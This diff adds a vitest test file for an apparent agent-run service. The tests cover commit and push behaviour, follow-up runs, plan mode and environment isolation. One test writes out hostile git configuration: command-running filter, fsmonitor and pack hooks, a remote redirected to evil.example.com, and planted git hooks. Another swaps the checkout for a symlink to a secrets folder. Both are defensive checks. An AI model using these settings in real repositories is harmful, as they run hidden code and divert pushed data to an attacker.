@@ -1,0 +1,236 @@
+import { mkdir, readFile, writeFile } from "node:fs/promises";
+import { join } from "node:path";
+import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { createRunHarness, type RunHarness, textOf } from "./testing/run-harness";
+
+let harness: RunHarness;
+beforeAll(async () => {
+  harness = await createRunHarness();
+});
+afterAll(() => harness.dispose());
+
+const fence = "```";
+const block = (info: string, body: string) => `${fence}${info}\n${body}\n${fence}\n`;
+const prompt = (text: string) => ({ text, images: [] });
+const branch = (name: string, current = false) => ({ name, current });
+
+describe("what a run pushes", () => {
+  it("A-CREATE-63: goes to the new branch, as one commit that names agent and run", async () => {
+    const text = `Add a health route\n\n${block("file src/health.ts", "export const ok = true;")}${block("sh", "cat src/health.ts")}`;
+    const { outcome } = await harness.run({ runId: "run-1", prompt: prompt(text), branch: branch("svc/health") });
+    expect(outcome).toMatchObject({ status: "FINISHED", error: undefined });
+    expect(outcome.branches).toEqual([{ repoUrl: "git.example.com/acme/payments", branch: "svc/health" }]);
+    const log = await harness.remoteGit("log", "-1", "--format=%an <%ae>%n%B", "svc/health");
+    expect(log).toBe("Slipway <slipway@example.com>\nAdd a health route\n\nAgent: bc-1\nRun: run-1");
+    expect(await harness.remoteGit("show", "svc/health:src/health.ts")).toBe("export const ok = true;");
+  });
+
+  it("A-CREATE-66: leaves the starting ref as it was", async () => {
+    const before = await harness.remoteGit("rev-parse", "release");
+    await harness.run({
+      prompt: prompt(block("sh", "echo hi > hi.txt")),
+      repositories: [harness.repository("release")],
+      branch: branch("svc/from-release"),
+    });
+    expect(await harness.remoteGit("rev-parse", "release")).toBe(before);
+    expect(await harness.remoteGit("rev-parse", "svc/from-release^")).toBe(before);
+  });
+
+  it.each(["v1", "release", "refs/heads/release"])("A-CREATE-57: starts from %s", async (ref) => {
+    const { outcome } = await harness.run({
+      prompt: prompt(block("sh", "date > now.txt")),
+      repositories: [harness.repository(ref)],
+      branch: branch(`svc/from-${ref.length}-${ref.at(0)}`),
+    });
+    expect(outcome.status).toBe("FINISHED");
+    expect(outcome.branches).toHaveLength(1);
+  });
+
+  it("A-CREATE-58: starts from a commit", async () => {
+    const commit = await harness.remoteGit("rev-parse", "main");
+    const { outcome } = await harness.run({
+      prompt: prompt(block("sh", "date > now.txt")),
+      repositories: [harness.repository(commit)],
+      branch: branch("svc/from-commit"),
+    });
+    expect(outcome.status).toBe("FINISHED");
+    expect(await harness.remoteGit("rev-parse", "svc/from-commit^")).toBe(commit);
+  });
+
+  it("A-CREATE-67: goes to the starting ref itself when that is asked for", async () => {
+    const { outcome } = await harness.run({
+      prompt: prompt(block("sh", "echo direct > direct.txt")),
+      repositories: [harness.repository("release")],
+      branch: branch("svc/unused", true),
+    });
+    expect(outcome.branches).toEqual([{ repoUrl: "git.example.com/acme/payments", branch: "release" }]);
+    expect(await harness.remoteGit("show", "release:direct.txt")).toBe("direct");
+    expect(await harness.remoteGit("branch", "--list", "svc/unused")).toBe("");
+  });
+
+  it("is nothing when nothing changed", async () => {
+    const { outcome } = await harness.run({ prompt: prompt(block("sh", "ls")), branch: branch("svc/none") });
+    expect(outcome).toMatchObject({ status: "FINISHED", branches: [] });
+    expect(await harness.remoteGit("branch", "--list", "svc/none")).toBe("");
+  });
+
+  it("holds the commits the agent made itself, and what it left uncommitted", async () => {
+    const script = "echo 1 > one.txt && git add one.txt && git commit -qm 'Add one' && echo 2 > two.txt";
+    await harness.run({ prompt: prompt(`Two files\n${block("sh", script)}`), branch: branch("svc/own-commits") });
+    expect(await harness.remoteGit("log", "--format=%s", "-2", "svc/own-commits")).toBe("Two files\nAdd one");
+  });
+
+  it("leaves out artifacts, which stay in the workspace", async () => {
+    const workspaceDir = join(harness.folder, "with-artifacts");
+    const text =
+      block("sh", 'echo a > artifacts/a.txt; echo b > "$SVC_ARTIFACTS/b.txt"') + block("file artifacts/c.txt", "c");
+    const { outcome } = await harness.run({ prompt: prompt(text), workspaceDir });
+    expect(outcome).toMatchObject({ status: "FINISHED", branches: [] });
+    expect(await textOf(join(workspaceDir, "artifacts", "a.txt"))).toBe("a\n");
+    expect(await textOf(join(workspaceDir, "artifacts", "b.txt"))).toBe("b\n");
+    expect(await textOf(join(workspaceDir, "artifacts", "c.txt"))).toBe("c\n");
+  });
+
+  it("goes to every repository of the run that changed", async () => {
+    const one = { ...harness.repository(), directory: "one", url: "https://git.example.com/acme/one" };
+    const two = { ...harness.repository(), directory: "two", url: "https://git.example.com/acme/two" };
+    const { outcome } = await harness.run({
+      prompt: prompt(block("sh", "echo hi > two/two.txt")),
+      repositories: [one, two],
+      branch: branch("svc/several"),
+    });
+    expect(outcome.branches).toEqual([{ repoUrl: "git.example.com/acme/two", branch: "svc/several" }]);
+  });
+
+  it("is nothing without a repository", async () => {
+    const workspaceDir = join(harness.folder, "no-repository");
+    const { outcome } = await harness.run({
+      prompt: prompt(block("file notes/a.md", "a")),
+      repositories: [],
+      workspaceDir,
+    });
+    expect(outcome).toMatchObject({ status: "FINISHED", branches: [] });
+    expect(await textOf(join(workspaceDir, "repos", "notes", "a.md"))).toBe("a\n");
+  });
+
+  it("never follows what the agent wrote into its own git configuration", async () => {
+    const marker = join(harness.folder, "executed");
+    const script = [
+      `git config filter.x.clean "touch ${marker}; cat"`,
+      `git config core.fsmonitor "touch ${marker}; false"`,
+      `git config uploadpack.packObjectsHook "touch ${marker};"`,
+      `git config url.https://evil.example.com/.insteadOf ${harness.remote}`,
+      "echo '* filter=x' > .gitattributes; echo hi > hi.txt",
+      `mkdir -p .git/hooks; printf '#!/bin/sh\\ntouch ${marker}\\n' | tee .git/hooks/reference-transaction > .git/hooks/pre-push`,
+      "chmod +x .git/hooks/*",
+    ].join("\n");
+    const { outcome } = await harness.run({ prompt: prompt(block("sh", script)), branch: branch("svc/hostile") });
+    expect(outcome).toMatchObject({ status: "FINISHED", branches: [{ branch: "svc/hostile" }] });
+    expect(await textOf(marker)).toBeUndefined();
+  });
+
+  it("refuses a checkout that was replaced by a link to somewhere else", async () => {
+    const secret = join(harness.folder, "secret");
+    await mkdir(secret, { recursive: true });
+    await writeFile(join(secret, "keys.json"), "secret");
+    const text = block("sh", `cp -r .git ${secret}/.git; cd ..; rm -rf payments; ln -s ${secret} payments`);
+    const { outcome } = await harness.run({ prompt: prompt(text), branch: branch("svc/link") });
+    expect(outcome).toMatchObject({ status: "ERROR", error: { code: "workspace_unusable" } });
+    expect(await harness.remoteGit("branch", "--list", "svc/link")).toBe("");
+  });
+
+  it("reports why a push was refused, and keeps the commit for the next run", async () => {
+    const hook = join(harness.remote, "hooks", "pre-receive");
+    await writeFile(hook, "#!/bin/sh\necho 'branch is frozen' >&2\nexit 1\n", { mode: 0o755 });
+    const workspaceDir = join(harness.folder, "refused-push");
+    const over = { workspaceDir, branch: branch("svc/refused") };
+    const { outcome: refused } = await harness.run({ ...over, prompt: prompt(block("sh", "echo x > x.txt")) });
+    expect(refused).toMatchObject({ status: "ERROR", branches: [], error: { code: "push_rejected" } });
+    expect(refused.error?.message).toContain("branch is frozen");
+    await writeFile(hook, "#!/bin/sh\nexit 0\n");
+    const { outcome } = await harness.run({ ...over, prompt: prompt(block("sh", "ls")) });
+    expect(outcome.branches).toHaveLength(1);
+    expect(await harness.remoteGit("show", "svc/refused:x.txt")).toBe("x");
+  });
+});
+
+describe("a follow-up run", () => {
+  it("A-RUN-31: goes on in the same workspace, on the same branch, with what was left there", async () => {
+    const over = { workspaceDir: join(harness.folder, "follow-up"), branch: branch("svc/follow-up") };
+    await harness.run({ ...over, prompt: prompt(`First\n${block("sh", "echo 1 > count.txt")}`) });
+    const status = `${block("sh", "git status --porcelain > ../../artifacts/status.txt; echo 2 >> count.txt")}`;
+    const second = await harness.run({
+      ...over,
+      prompt: prompt(`Second\n${status}`),
+      conversation: [{ prompt: `First\n${block("sh", "echo again >> count.txt")}`, reply: "Done" }],
+    });
+    expect(second.outcome.branches).toHaveLength(1);
+    expect(await readFile(join(over.workspaceDir, "artifacts", "status.txt"), "utf8")).toBe("");
+    expect(await harness.remoteGit("show", "svc/follow-up:count.txt")).toBe("1\n2");
+    expect(await harness.remoteGit("log", "--format=%s", "-2", "svc/follow-up")).toBe("Second\nFirst");
+  });
+
+  it("takes over what people pushed to the branch meanwhile", async () => {
+    const over = { workspaceDir: join(harness.folder, "reviewed"), branch: branch("svc/reviewed") };
+    await harness.run({ ...over, prompt: prompt(`First\n${block("sh", "echo 1 > count.txt")}`) });
+    const other = { workspaceDir: join(harness.folder, "reviewer"), branch: branch("svc/reviewed", true) };
+    const repositories = [harness.repository("svc/reviewed")];
+    await harness.run({ ...other, repositories, prompt: prompt(`Review\n${block("sh", "echo 2 >> count.txt")}`) });
+    const { outcome } = await harness.run({ ...over, prompt: prompt(`Second\n${block("sh", "echo 3 >> count.txt")}`) });
+    expect(outcome).toMatchObject({ status: "FINISHED", branches: [{ branch: "svc/reviewed" }] });
+    expect(await harness.remoteGit("log", "--format=%s", "main..svc/reviewed")).toBe("Second\nReview\nFirst");
+    expect(await harness.remoteGit("show", "svc/reviewed:count.txt")).toBe("1\n2\n3");
+  });
+
+  it("may rewrite the agent's own branch", async () => {
+    const over = { workspaceDir: join(harness.folder, "amend"), branch: branch("svc/amend") };
+    await harness.run({ ...over, prompt: prompt(`First\n${block("sh", "echo 1 > count.txt")}`) });
+    const amend = "echo 2 > count.txt; git commit -qam x --amend";
+    const { outcome } = await harness.run({ ...over, prompt: prompt(block("sh", amend)) });
+    expect(outcome).toMatchObject({ status: "FINISHED", branches: [{ branch: "svc/amend" }] });
+    expect(await harness.remoteGit("log", "--format=%s", "main..svc/amend")).toBe("x");
+  });
+});
+
+describe("plan mode", () => {
+  it("A-CREATE-75: explores and proposes, but runs, writes and pushes nothing", async () => {
+    const workspaceDir = join(harness.folder, "plan");
+    const text = `Do it\n${block("file new.txt", "new")}${block("sh", "touch ran.txt")}`;
+    const { outcome, frames } = await harness.run({ prompt: prompt(text), mode: "plan", workspaceDir });
+    expect(outcome).toMatchObject({ status: "FINISHED", branches: [] });
+    expect(outcome.result).toContain("1. Write `new.txt`\n2. Run `touch ran.txt`");
+    expect(await textOf(join(workspaceDir, "repos", "payments", "ran.txt"))).toBeUndefined();
+    const calls = frames.filter(({ event }) => event === "tool_call").map(({ data }) => data);
+    expect(calls).toEqual([
+      expect.objectContaining({ name: "create_plan", status: "running" }),
+      expect.objectContaining({ name: "create_plan", status: "completed" }),
+    ]);
+  });
+});
+
+describe("the agent's environment", () => {
+  it("A-VARS-10: holds the session variables, the run's own, and nothing of the service's", async () => {
+    process.env.SLIPWAY_TEST_SECRET = "leak";
+    const workspaceDir = join(harness.folder, "environment");
+    const { outcome } = await harness.run({
+      runId: "run-env",
+      workspaceDir,
+      prompt: prompt(block("sh", "env > artifacts/env.txt")),
+      variables: { GREETING: "hello", SCRIPT_AGENT_DELAY_MS: "0" },
+    });
+    expect(outcome.status).toBe("FINISHED");
+    const lines = (await readFile(join(workspaceDir, "artifacts", "env.txt"), "utf8")).split("\n");
+    expect(lines).toEqual(
+      expect.arrayContaining([
+        "GREETING=hello",
+        "SVC_AGENT=1",
+        "SVC_CONVERSATION_ID=bc-1",
+        "SVC_REQUEST_ID=run-env",
+        "TERM=dumb",
+        `HOME=${join(workspaceDir, "home")}`,
+        "GIT_AUTHOR_NAME=Slipway",
+      ]),
+    );
+    expect(lines.join("\n")).not.toContain("leak");
+  });
+});
